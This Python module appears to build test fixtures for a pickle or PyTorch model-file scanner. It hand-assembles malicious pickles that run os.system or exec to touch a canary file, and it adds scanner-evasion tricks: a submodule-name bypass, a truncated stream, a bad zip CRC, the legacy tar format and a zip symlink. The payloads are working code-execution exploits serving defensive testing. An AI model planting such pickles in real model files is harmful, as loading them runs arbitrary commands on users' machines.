"""Pickles that would touch a file if anything unpickled them, one for each way a pickle acts; none is loaded here.

The opcodes are spelt out by hand where Python's own pickler would choose others.
"""

from __future__ import annotations

import io
import pickle
import struct
import tarfile
import zipfile
from pathlib import Path
from typing import Any

MAGIC = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2)


def text(value: str) -> bytes:
    """BINUNICODE."""
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def short(value: str) -> bytes:
    """SHORT_BINUNICODE of protocol 4."""
    return b"\x8c" + bytes([len(value.encode())]) + value.encode()


def touch(canary: Path) -> str:
    return f"touch {canary}"


def call(canary: Path, function: bytes = b"cos\nsystem\n") -> bytes:
    """os.system by GLOBAL and REDUCE, without an end."""
    return function + b"(" + text(touch(canary)) + b"tR"


def by_reduce(canary: Path) -> bytes:
    return b"\x80\x02" + call(canary) + b"."


def by_exec(canary: Path) -> bytes:
    code = f"open({str(canary)!r}, 'w').close()"
    return b"\x80\x02c__builtin__\nexec\n(" + text(code) + b"tR."


def by_stack_global(canary: Path) -> bytes:
    body = short("posix") + b"\x94" + short("system") + b"\x94\x93\x94" + text(touch(canary)) + b"\x85R."
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body


def by_inst(canary: Path) -> bytes:
    return b"(S'" + touch(canary).encode() + b"'\nios\nsystem\n."


def by_obj(canary: Path) -> bytes:
    return b"\x80\x02(cos\nsystem\n" + text(touch(canary)) + b"o."


def by_newobj(canary: Path) -> bytes:
    return b"\x80\x02ccollections\nOrderedDict\n)\x810" + call(canary) + b"."


def by_newobj_ex(canary: Path) -> bytes:
    return b"\x80\x04ccollections\nOrderedDict\n)}\x920" + call(canary) + b"."


def by_build(canary: Path) -> bytes:
    """partial.__setstate__ swaps the function of a harmless partial, which is called then."""
    made = b"cfunctools\npartial\n(cbuiltins\nprint\ntR"
    state = b"(cos\nsystem\n(" + text(touch(canary)) + b"t}}tb"
    return b"\x80\x02" + made + state + b")R."


def by_build_of_allowed(canary: Path) -> bytes:
    return b"\x80\x02ctorch\ndevice\n(" + text("cpu") + b"tR}b0" + call(canary) + b"."


def by_ext(opcode: bytes, canary: Path) -> bytes:
    """A number in the registry of copyreg stands for a name that no scanner sees."""
    return b"\x80\x02" + opcode + call(canary)[-2:] + b"."


def by_persid(canary: Path) -> bytes:
    return b"Pstorage\n0" + call(canary) + b"."


def by_odd_binpersid(canary: Path) -> bytes:
    """torch of old compares the source of a "module" with a file it then opens."""
    module = text("module") + b"ccollections\nOrderedDict\n" + text(str(canary)) + text("x")
    return b"\x80\x02(" + module + b"tQ0" + call(canary) + b"."


def nested(canary: Path) -> bytes:
    inner = by_reduce(canary)
    return b"\x80\x03c_pickle\nloads\nC" + bytes([len(inner)]) + inner + b"\x85R."


def by_load_from_bytes(canary: Path) -> bytes:
    """torch's own way to load a pickle within a pickle, which some allow-lists let pass for its first name."""
    inner = MAGIC + by_reduce(canary) + pickle.dumps([], 2)
    return b"\x80\x03ctorch.storage\n_load_from_bytes\nB" + struct.pack("<I", len(inner)) + inner + b"\x85R."


def by_submodule(canary: Path) -> bytes:
    """A name below a module that scanners block only by its full name (CVE-2025-10157)."""
    return b"\x80\x04" + call(canary, b"casyncio.base_events\nsubprocess.getoutput\n") + b"."


def broken(canary: Path) -> bytes:
    """Acts first and breaks off then, so that scanners give up and unpicklers do not (nullifAI)."""
    return b"\x80\x02" + call(canary) + b"\xff\xff"


# ------------------------------------------------------------------------------------------------------ containers


def stacked(data: bytes) -> bytes:
    """As torch wrote files until 1.5, with this for its data."""
    return MAGIC + data + pickle.dumps([], 2)


def zipped(data: bytes, *more: tuple[str, bytes], packing: int = zipfile.ZIP_STORED) -> bytes:
    """As torch writes files since 1.6, with this for data.pkl, and further members."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", packing) as archive:
        for name, content in (("archive/data.pkl", data), ("archive/version", b"3\n"), *more):
            archive.writestr(name, content)
    return stream.getvalue()


def zipped_with_link(target: str) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("archive/data.pkl", plain())
        link = zipfile.ZipInfo("archive/data/0")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, target)
    return stream.getvalue()


def with_wrong_checksum(data: bytes) -> bytes:
    """A zip whose CRC is wrong wherever it stands (CVE-2025-10156)."""
    content = zipped(data)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        crc = struct.pack("<I", archive.getinfo("archive/data.pkl").CRC)
    return content.replace(crc, b"\0\0\0\0")


def tarred(data: bytes) -> bytes:
    """As torch wrote files before 0.1.10; read unsafely even by weights_only until 2.5 (CVE-2025-32434)."""
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        for name in ("storages", "tensors", "pickle"):
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return stream.getvalue()


def plain() -> bytes:
    """A dictionary of no weights."""
    return b"\x80\x02}."


def tensor(size: tuple[int, ...], stride: tuple[int, ...], *, num: int, offset: int = 0) -> bytes:
    """A dictionary with one tensor over a storage of `num` floats that is data/0."""

    def ints(values: tuple[int, ...]) -> bytes:
        return b"(" + b"".join(b"\x8a\x08" + struct.pack("<q", value) for value in values) + b"t"

    storage = b"(" + text("storage") + b"ctorch\nFloatStorage\n" + text("0") + text("cpu")
    storage += b"\x8a\x08" + struct.pack("<q", num) + b"tQ"
    args = storage + b"\x8a\x08" + struct.pack("<q", offset) + ints(size) + ints(stride)
    made = b"ctorch._utils\n_rebuild_tensor_v2\n(" + args + b"\x89ccollections\nOrderedDict\n)RtR"
    return b"\x80\x02}" + text("w") + made + b"s."


def saved(value: Any) -> bytes:
    """What torch.save makes of it."""
    import torch

    stream = io.BytesIO()
    torch.save(value, stream)
    return stream.getvalue()
